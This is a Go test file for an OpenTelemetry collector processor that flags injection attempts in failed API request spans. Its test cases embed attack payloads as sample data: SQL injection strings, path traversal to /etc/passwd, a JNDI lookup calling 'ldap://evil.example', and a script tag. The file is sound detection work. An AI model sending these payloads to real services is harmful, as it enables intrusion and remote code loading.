package apierrorprocessor

import (
	"fmt"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"go.opentelemetry.io/collector/pdata/ptrace"

	"github.com/otelcol-apierror/otelcol-apierror/internal/apierror"
)

// asked is a failed request of one client.
func asked(spans ptrace.SpanSlice, status int64, attributes map[string]any) ptrace.Span {
	span := spans.AppendEmpty()
	span.SetKind(ptrace.SpanKindServer)
	span.SetSpanID([8]byte{1, byte(spans.Len())})
	span.SetStartTimestamp(1)
	span.SetEndTimestamp(2)
	attrs := span.Attributes()
	attrs.PutStr("http.request.method", "GET")
	attrs.PutStr("http.route", "/search")
	attrs.PutInt("http.response.status_code", status)
	attrs.PutStr("client.address", "203.0.113.7")
	for key, value := range attributes {
		switch value := value.(type) {
		case string:
			attrs.PutStr(key, value)
		case []string:
			list := attrs.PutEmptySlice(key)
			for _, element := range value {
				list.AppendEmpty().SetStr(element)
			}
		}
	}
	return span
}

func TestWhereAPayloadMayBe(t *testing.T) {
	tests := map[string]struct {
		status     int64
		attributes map[string]any
		severity   apierror.Severity
		rationale  string
		reference  string
	}{
		"SQL in a query": {
			400,
			map[string]any{"url.path": "/search", "url.query": "q=1%27%20OR%20%271%27%3D%271"},
			apierror.SeverityLow, `a payload of an attack sent: SQL`, "cwe:89",
		},
		"SQL on which the service breaks": {
			500,
			map[string]any{"url.path": "/search", "url.query": "q=1%27%20OR%20%271%27%3D%271"},
			apierror.SeverityMedium, "the service failed on it", "cwe:89",
		},
		"a path that climbs, in the former conventions": {
			404,
			map[string]any{"http.target": "/static/..%2f..%2f..%2fetc/passwd"},
			apierror.SeverityLow, "a path that leads out of its directory", "cwe:22",
		},
		"a path that is encoded twice": {
			404,
			map[string]any{"url.path": "/static/..%252f..%252f..%252fx"},
			apierror.SeverityMedium, "nobody sends such a thing by accident", "cwe:22",
		},
		"a lookup in a user agent": {
			403,
			map[string]any{"url.path": "/search", "user_agent.original": "${jndi:ldap://evil.example/a}"},
			apierror.SeverityMedium, "a JNDI lookup", "cwe:917",
		},
		"a lookup in a captured header": {
			400,
			map[string]any{"url.path": "/search", "http.request.header.x-api-version": []string{"1", "${jndi:ldap://evil.example/a}"}},
			apierror.SeverityMedium, "a JNDI lookup", "cwe:917",
		},
		"a script in a captured parameter": {
			422,
			map[string]any{"url.path": "/search", "servlet.request.parameter.name": []string{"<script>alert(1)</script>"}},
			apierror.SeverityLow, "a script", "cwe:79",
		},
		"nothing": {
			404,
			map[string]any{"url.path": "/search", "url.query": "q=O%27Reilly", "user_agent.original": "Mozilla/5.0 (X11; Linux)"},
			apierror.SeverityNone, "", "",
		},
	}
	for name, test := range tests {
		t.Run(name, func(t *testing.T) {
			td := ptrace.NewTraces()
			span := asked(td.ResourceSpans().AppendEmpty().ScopeSpans().AppendEmpty().Spans(), test.status, test.attributes)
			enrich(t, createDefaultConfig().(*Config), td)
			verdict, _ := apierror.ReadSpan(span.Attributes())
			assert.Equal(t, test.severity, verdict.Security.Severity, verdict.Security.Rationale)
			if test.severity == apierror.SeverityNone {
				return
			}
			assert.Equal(t, []apierror.Signal{apierror.SignalInjectionAttempt}, verdict.Security.Signals)
			assert.Contains(t, verdict.Security.Rationale, test.rationale)
			assert.Equal(t, []string{"attack:T1190", test.reference}, verdict.Security.References)
			assert.Equal(t, "203.0.113.7", verdict.Security.Actor.ID)
		})
	}
}

// One payload wakes nobody, and the same on the next page is no other; whoever tries one after another is an attacker.
func TestPayloadsAddUp(t *testing.T) {
	worst := func(query func(i int) string) (severity apierror.Severity) {
		td := ptrace.NewTraces()
		spans := td.ResourceSpans().AppendEmpty().ScopeSpans().AppendEmpty().Spans()
		for i := range 12 {
			asked(spans, 400, map[string]any{"url.path": "/search", "url.query": query(i)})
		}
		enrich(t, createDefaultConfig().(*Config), td)
		for i := range spans.Len() {
			verdict, found := apierror.ReadSpan(spans.At(i).Attributes())
			require.True(t, found)
			severity = max(severity, verdict.Security.Severity)
		}
		return severity
	}
	assert.Equal(t, apierror.SeverityLow, worst(func(i int) string { return fmt.Sprintf("q=1'+OR+'1'='1&page=%d", i) }))
	assert.Equal(t, apierror.SeverityHigh, worst(func(i int) string { return fmt.Sprintf("q=%d'+OR+'1'='1", i) }))
}

func TestASecretInAPayloadIsMasked(t *testing.T) {
	td := ptrace.NewTraces()
	span := asked(td.ResourceSpans().AppendEmpty().ScopeSpans().AppendEmpty().Spans(), 400,
		map[string]any{"url.path": "/search", "url.query": "password=hunter2&q=<script>alert(1)</script>"})
	enrich(t, createDefaultConfig().(*Config), td)
	verdict, _ := apierror.ReadSpan(span.Attributes())
	assert.Contains(t, verdict.Security.Rationale, "a script")
	assert.NotContains(t, verdict.Security.Rationale, "hunter2")
}
